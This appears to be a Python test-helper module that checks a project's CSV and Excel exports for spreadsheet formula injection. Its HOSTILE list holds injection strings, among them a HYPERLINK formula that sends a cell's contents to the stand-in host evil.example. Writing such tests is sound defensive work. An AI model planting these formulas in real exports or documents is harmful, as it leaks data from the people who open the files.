"""Hostile text for exports, and checks that a written CSV or workbook holds nothing that runs."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook

from keepitlocal.safeio import FORMULA_START

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "+44 cmd", "-2+3 Ltd",
           "@SUM(A1)", "\t=1+1 Ltd", "\r=2+2 Ltd"]


def assert_csv_inert(content: bytes) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
             for c in row]
    live = [c for c in cells if c.startswith(FORMULA_START) and not _number(c)]
    assert not live, live
    return cells


def assert_workbook_inert(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True
